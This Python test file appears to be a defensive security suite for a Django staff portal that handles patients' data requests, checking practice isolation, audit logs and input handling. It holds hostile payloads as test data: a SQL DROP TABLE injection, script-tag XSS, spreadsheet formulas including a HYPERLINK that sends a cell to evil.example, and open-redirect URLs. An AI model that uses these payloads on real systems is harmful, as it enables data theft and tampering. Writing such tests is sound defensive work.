"""An attacker's view of issue 13: the queue's search, the FG's audit-log page and the request
page. Another practice's patients are never found, named or logged; bad input is an empty
result or a 4xx, never a 500; a spreadsheet never runs what a name or a search holds."""

import concurrent.futures
import csv
import datetime
import io

import pytest

from requests_app.models import AuditRecord, DataPackage, Request, RequestState
from requests_app.roles import Role
from tests.factories import decided, forwarded, granted, make_user, submit
from tests.factories import queue_refs as refs
from tests.factories import queued_requests as make
from tests.live_http import Visitor
from workflows.casework import actions as casework
from workflows.intake.submission import PatientDetails

pytestmark = pytest.mark.django_db

THEIRS = {
    "patient_name": "Karel Elders",
    "patient_email": "karel.elders@example.com",
    "patient_birth_date": datetime.date(1966, 3, 9),
    "patient_number": "E-77001",
}


@pytest.fixture
def theirs(other_practice):
    return make(other_practice, **THEIRS)[0]


@pytest.fixture
def fg(practice):
    return make_user("fg@practice.example", Role.DPO, practice)


def queue_records(user) -> list[AuditRecord]:
    return list(AuditRecord.objects.filter(event_type="queue.view", user=user).order_by("seq"))


def csv_rows(response) -> list[dict]:
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text)))


# --- 1. The queue's search ---------------------------------------------------------------------
def test_no_search_finds_another_practices_request(client, handler, practice, theirs):
    make(practice)
    client.force_login(handler)
    reference = theirs.reference
    for typed in (
        reference,
        reference.replace("-", ""),
        reference.lower(),
        reference[:5],
        reference[6:],
        reference[:7],
        THEIRS["patient_email"],
        THEIRS["patient_email"].upper(),
        "09-03-1966",
        "9/3/1966",
        "09.03.1966",
        "1966-03-09",
        THEIRS["patient_number"],
        "Karel",
        "elders",
    ):
        response = client.get("/staff/", {"q": typed, "state": "all"})
        assert response.status_code == 200, typed
        assert refs(response) == [], typed
        assert "karel.elders@" not in response.content.decode().replace(typed.lower(), ""), typed


def test_a_person_at_two_practices_finds_both_and_each_log_holds_only_its_own(
    client, practice, other_practice, theirs
):
    both = make_user("twee@practice.example", Role.HANDLER, practice)
    from requests_app.models import Membership

    Membership.objects.create(user=both, role=Role.HANDLER, practice=other_practice)
    mine = make(practice, patient_email=THEIRS["patient_email"])[0]
    client.force_login(both)
    found = refs(client.get("/staff/", {"q": THEIRS["patient_email"]}))
    assert sorted(found) == sorted([mine.reference, theirs.reference])
    by_practice = {r.practice_id_ref: r.details["shown"] for r in queue_records(both)}
    assert by_practice == {practice.pk: [mine.reference], other_practice.pk: [theirs.reference]}


def test_a_search_for_another_practices_patient_logs_the_typed_text_and_no_result(
    client, handler, practice, theirs
):
    client.force_login(handler)
    client.get("/staff/", {"q": theirs.reference})
    (record,) = queue_records(handler)
    # The FG of the searching practice sees what was looked for, never what the other holds.
    assert record.practice_id_ref == practice.pk
    assert record.details["shown"] == [] and record.details["filters"] == {"q": theirs.reference}
    assert record.patient_id == ""
    assert THEIRS["patient_email"] not in str(record.details)


@pytest.mark.parametrize(
    "typed",
    [
        "%",
        "_",
        "%%%",
        "___@example.com",
        "%@example.com",
        ".*",
        "(a|b)+$",
        "[^a]",
        "\\",
        "'; DROP TABLE requests_app_request; --",
        "ｋａｒｅｌ．ｅｌｄｅｒｓ＠ｅｘａｍｐｌｅ．ｃｏｍ",  # full-width
        "karel.еlders@example.com",  # a Cyrillic е
        "\u202ekarel",
        "x" * 10_000,
        "@" * 10_000,
        "a@" + "b" * 10_000 + ".nl",
        "9" * 10_000,
        "00-00-0000",
        "31-02-1966",
        "0001-01-01",
    ],
)
def test_odd_search_text_is_an_empty_result_not_an_error(client, handler, practice, typed):
    make(practice, **THEIRS)  # the practice's own patient: only a true match finds her
    client.force_login(handler)
    response = client.get("/staff/", {"q": typed, "state": "all"})
    assert response.status_code == 200
    assert refs(response) == []


def test_a_nul_in_the_search_is_refused_and_not_logged(client, handler, practice):
    client.force_login(handler)
    response = client.get("/staff/?q=karel%00")
    assert response.status_code == 400
    assert queue_records(handler) == []


def test_a_wildcard_or_look_alike_never_widens_the_search_to_everyone(client, handler, practice):
    make(practice, n=3)
    client.force_login(handler)
    for typed in ("%", "_", "ＰＩＥＴ", "Ріеt"):  # full-width; Cyrillic Р and і
        assert refs(client.get("/staff/", {"q": typed})) == [], typed
    assert len(refs(client.get("/staff/", {"q": "piet"}))) == 3


# --- 2. The FG's audit-log page ----------------------------------------------------------------
@pytest.fixture
def b_side(other_practice, patient, providers):
    """Practice B's request and a staff member of B who also works at A (as handler)."""
    karel = PatientDetails(
        name="Karel Elders",
        birth_date=datetime.date(1966, 3, 9),
        email="karel.elders@example.com",
        phone="+31687650000",
    )
    return forwarded(submit(other_practice, karel))


def test_a_handler_cannot_open_the_audit_log(client, handler):
    client.force_login(handler)
    assert client.get("/staff/audit/").status_code == 403
    assert client.get("/staff/audit/export.csv").status_code == 403


def test_the_fg_sees_nothing_of_another_practice_not_even_through_a_shared_colleague(
    client, fg, practice, other_practice, b_side
):
    from requests_app.models import Membership

    shared = make_user("gedeeld@elders.example", Role.HANDLER, other_practice)
    shared.first_name, shared.last_name = "Gedeeld", "Collega"
    shared.save()
    Membership.objects.create(user=shared, role=Role.HANDLER, practice=practice)
    client.force_login(shared)
    assert client.get(f"/staff/requests/{b_side.reference}/").status_code == 200
    client.get("/staff/", {"q": "Karel"})
    client.force_login(fg)
    for params in (
        {},
        {"user": "Gedeeld"},
        {"user": "gedeeld@elders.example"},
        {"reference": b_side.reference},
        {"reference": b_side.reference.replace("-", "")},
        {"patient": "karel.elders@example.com"},
    ):
        response = client.get("/staff/audit/", params)
        for row in response.context["rows"]:
            assert row.reference != b_side.reference and "Karel" not in row.subject, params
        assert "Karel" not in response.content.decode(), params
        rows = csv_rows(client.get("/staff/audit/export.csv", params))
        assert not any(b_side.reference in str(row) for row in rows), params
        assert not any("Karel" in str(row) for row in rows), params
    # B's patient is as unknown as a patient who does not exist: the filter says nothing more.
    known = client.get("/staff/audit/", {"patient": "karel.elders@example.com"})
    unknown = client.get("/staff/audit/", {"patient": "niemand@example.com"})
    assert len(known.context["rows"]) == len(unknown.context["rows"]) == 0


@pytest.mark.parametrize("page", ["0", "-1", "abc", "99999", "1e9", "9" * 400, "1.5", "last"])
def test_any_page_number_is_a_page_not_an_error(client, fg, practice, page):
    client.force_login(fg)
    response = client.get("/staff/audit/", {"page": page})
    assert response.status_code == 200


@pytest.mark.parametrize(
    "params",
    [
        {"since": "2026-13-45"},
        {"until": "morgen"},
        {"user": "x" * 5000},
        {"patient": "@" * 5000},
        {"reference": "%_%" * 20},
        {"patient": "%"},
        {"user": "%"},
    ],
)
def test_bad_filters_are_no_error_and_a_wildcard_finds_nothing_extra(client, fg, params):
    client.force_login(fg)
    assert client.get("/staff/audit/", params).status_code in (200, 400)
    assert client.get("/staff/audit/export.csv", params).status_code in (200, 400)


@pytest.mark.parametrize(
    "evil",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
        "+1+1",
        "-1+1",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        " =1+1",
        "\u00a0=1+1",
    ],
)
def test_no_csv_cell_starts_a_formula_from_a_name_or_a_search(client, fg, handler, practice, evil):
    handler.first_name = evil
    handler.save()
    make(practice, patient_name=f"{evil} Patiënt")
    client.force_login(handler)
    client.get("/staff/", {"q": evil})
    client.force_login(fg)
    client.get("/staff/audit/", {"user": evil})
    rows = csv_rows(client.get("/staff/audit/export.csv"))
    assert any(evil.strip() in row["user_name"] for row in rows)
    for row in rows:
        for column, cell in row.items():
            assert not cell.lstrip(" \t\r\n\x0b\x0c\xa0").startswith(("=", "+", "-", "@")), (
                column,
                cell,
            )


# --- 3. The request page -----------------------------------------------------------------------
@pytest.fixture
def taken_on(practice, patient, handler, providers):
    item = forwarded(submit(practice, patient))
    return casework.act(item, "acknowledge", actor=handler, version=item.version)


XSS = '<script>alert("x")</script><img src=x onerror=alert(1)>'


@pytest.mark.django_db(transaction=True)
def test_text_kept_after_a_refused_step_is_escaped(client, handler, taken_on):
    shown = taken_on.version
    casework.act(taken_on, "extend", actor=handler, version=shown, reason="Veel gegevens.")
    client.force_login(handler)
    response = client.post(
        f"/staff/requests/{taken_on.reference}/act/refuse/",
        {"refuse-version": shown, "refuse-reason": XSS, "refuse-legal_ground": "identity"},
    )
    page = response.content.decode()
    assert response.status_code == 409
    assert XSS not in page and "&lt;script&gt;" in page


@pytest.mark.django_db(transaction=True)
def test_text_of_a_step_no_longer_offered_is_escaped(client, handler, taken_on):
    shown = taken_on.version
    casework.act(taken_on, "verify_identity", actor=handler, version=shown, how="Paspoort")
    client.force_login(handler)
    response = client.post(
        f"/staff/requests/{taken_on.reference}/act/verify_identity/",
        {"verify_identity-version": shown, "verify_identity-how": XSS},
    )
    page = response.content.decode()
    assert response.status_code == 409
    assert XSS not in page and "&lt;script&gt;" in page and "<img src=x" not in page


@pytest.fixture
def their_package(platform_db, package_dir, other_practice, other_handler, support, providers):
    from demo import platform as demo
    from workflows.assistance import packages
    from workflows.assistance import tasks as assistance

    karel = PatientDetails(
        name="Karel Elders",
        birth_date=datetime.date(1966, 3, 9),
        email="karel.elders@example.com",
        phone="+31687650000",
    )
    demo.add_patient(platform_db, practice_agb=other_practice.agb_code, email=karel.email)
    item = decided(other_practice, karel, other_handler, kind="access", grant=False)
    task = assistance.start(
        assistance.request_assistance(item, actor=other_handler, kind="supply", instruction="X"),
        actor=support,
    )
    package = packages.build_package(task, actor=support)
    for step in task.manual_steps.all():
        assistance.tick_manual_step(step, actor=support, note="Niets")
    task = assistance.deliver(task, actor=support)
    packages.record_download(package, user=other_handler, who="practice")
    assistance.accept(task, actor=other_handler)
    granted(item, other_handler)
    return package


@pytest.mark.django_db(transaction=True)
def test_another_practices_package_cannot_be_released_through_a_crafted_id(
    client, handler, practice, their_package
):
    client.force_login(handler)
    release = f"/staff/tasks/{their_package.task.pk}/package/release/"
    for url in (release, f"{release}?from=request"):
        assert client.get(url).status_code == 404
        assert client.post(url, {"confirm": "on"}).status_code == 404
    assert DataPackage.objects.get(pk=their_package.pk).released_at is None


@pytest.mark.django_db(transaction=True)
def test_the_release_flow_never_sends_anyone_off_site(client, other_handler, their_package):
    their_package.released_at = None
    client.force_login(other_handler)
    release = f"/staff/tasks/{their_package.task.pk}/package/release/"
    for query in (
        "from=https://evil.example/",
        "from=//evil.example",
        "next=https://evil.example/",
        "from=request&next=https://evil.example/",
        "from=request&from=https://evil.example/",
    ):
        page = client.get(f"{release}?{query}").content.decode()
        # The address may come back only as part of this page's own path (the language switch).
        for start in ('="https://evil', '="//evil', '="http://evil'):
            assert start not in page, query
        response = client.post(f"{release}?{query}", {"confirm": ""})
        assert response.status_code in (302, 400), query
        if response.status_code == 302:
            assert response["Location"].startswith("/staff/"), query


@pytest.mark.django_db(transaction=True)
def test_an_fg_without_the_capability_cannot_acknowledge(client, fg, practice, patient, providers):
    item = forwarded(submit(practice, patient))
    client.force_login(fg)
    response = client.post(
        f"/staff/requests/{item.reference}/act/acknowledge/", {"acknowledge-version": item.version}
    )
    assert 400 <= response.status_code < 500
    item = Request.objects.get(pk=item.pk)
    assert item.state == RequestState.FORWARDED and item.assigned_to is None
    assert not item.events.filter(action__in=("acknowledge", "assign")).exists()


@pytest.mark.django_db(transaction=True)
def test_parallel_acknowledges_by_two_handlers_assign_exactly_one(
    live_server, practice, patient, handler, providers
):
    from django.test import Client

    colleague = make_user("collega@practice.example", Role.HANDLER, practice)
    item = forwarded(submit(practice, patient))
    url = f"/staff/requests/{item.reference}/act/acknowledge/"
    visitors = []
    for user in (handler, colleague, handler, colleague):
        browser = Client()
        browser.force_login(user)
        browser.get(f"/staff/requests/{item.reference}/")
        cookies = {name: browser.cookies[name].value for name in ("sessionid", "csrftoken")}
        visitors.append(Visitor(live_server.url, cookies))
    with concurrent.futures.ThreadPoolExecutor(max_workers=4) as pool:
        answers = list(
            pool.map(lambda v: v.post(url, {"acknowledge-version": item.version}), visitors)
        )
    codes = sorted(a.status_code for a in answers)
    assert codes.count(302) == 1 and all(c in (302, 400, 409) for c in codes), codes
    item = Request.objects.get(pk=item.pk)
    assert item.state == RequestState.IN_REVIEW
    assert item.events.filter(action="acknowledge").count() == 1
    assign = item.events.get(action="assign")
    assert item.assigned_to == assign.actor


@pytest.mark.django_db(transaction=True)
def test_the_fg_of_one_practice_who_handles_at_another_cannot_acknowledge_at_her_own(
    client, fg, practice, other_practice, patient, providers
):
    from requests_app.models import Membership

    Membership.objects.create(user=fg, role=Role.HANDLER, practice=other_practice)
    item = forwarded(submit(practice, patient))
    client.force_login(fg)
    page = client.get(f"/staff/requests/{item.reference}/").content.decode()
    assert "/act/acknowledge/" not in page  # the step is not even offered
    response = client.post(
        f"/staff/requests/{item.reference}/act/acknowledge/", {"acknowledge-version": item.version}
    )
    assert 400 <= response.status_code < 500
    item = Request.objects.get(pk=item.pk)
    assert item.state == RequestState.FORWARDED and item.assigned_to is None


@pytest.mark.django_db(transaction=True)
def test_another_practices_handler_can_neither_acknowledge_nor_be_assigned(
    client, handler, other_handler, practice, patient, providers
):
    item = forwarded(submit(practice, patient))
    client.force_login(other_handler)
    response = client.post(
        f"/staff/requests/{item.reference}/act/acknowledge/", {"acknowledge-version": item.version}
    )
    assert response.status_code == 404
    client.force_login(handler)
    response = client.post(
        f"/staff/requests/{item.reference}/assign/",
        {"version": item.version, "assignee": other_handler.pk},
    )
    assert response.status_code == 400
    item = Request.objects.get(pk=item.pk)
    assert item.state == RequestState.FORWARDED and item.assigned_to is None
    assert not item.events.filter(action__in=("acknowledge", "assign")).exists()
